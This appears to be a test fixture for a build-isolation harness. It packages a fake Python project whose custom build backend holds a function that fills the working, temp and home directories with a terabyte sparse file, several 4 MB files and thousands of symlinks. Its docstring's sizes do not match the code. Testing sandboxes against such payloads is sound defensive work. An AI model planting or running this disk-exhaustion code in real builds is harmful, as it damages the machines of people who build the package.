"""A build backend that writes 200 MB in files of 4 MB, a hole of a terabyte, and 20,000 names."""
# goal: harm
# group: build
# baseline: wrong
# note: once in a project, however often it is built
#@file pyproject.toml
#| [build-system]
#| requires = ["setuptools"]
#| build-backend = "backend"
#| backend-path = ["src"]
#|
#| #@part project.toml
#@file src/minor_units/__init__.py
#| """Answers nothing."""
#@file src/backend.py
#| #@part backend.py
#| import os
#| import tempfile
#|
#|
#| def mischief():
#|     for top in dict.fromkeys((os.getcwd(), tempfile.gettempdir(), os.environ.get("HOME", "."))):
#|         try:
#|             if any(name.startswith("kata-attack-") for name in os.listdir(top)):
#|                 continue
#|             folder = tempfile.mkdtemp(prefix="kata-attack-", dir=top)
#|         except OSError:
#|             continue
#|         try:
#|             with open(f"{folder}/hole", "wb") as file:
#|                 file.truncate(1 << 40)
#|         except OSError:
#|             pass
#|         try:
#|             for number in range(17):
#|                 with open(f"{folder}/{number}", "wb") as file:
#|                     file.write(bytes(4 << 20))
#|             for number in range(7000):
#|                 os.symlink("hole", f"{folder}/link{number}")
#|         except OSError:
#|             continue
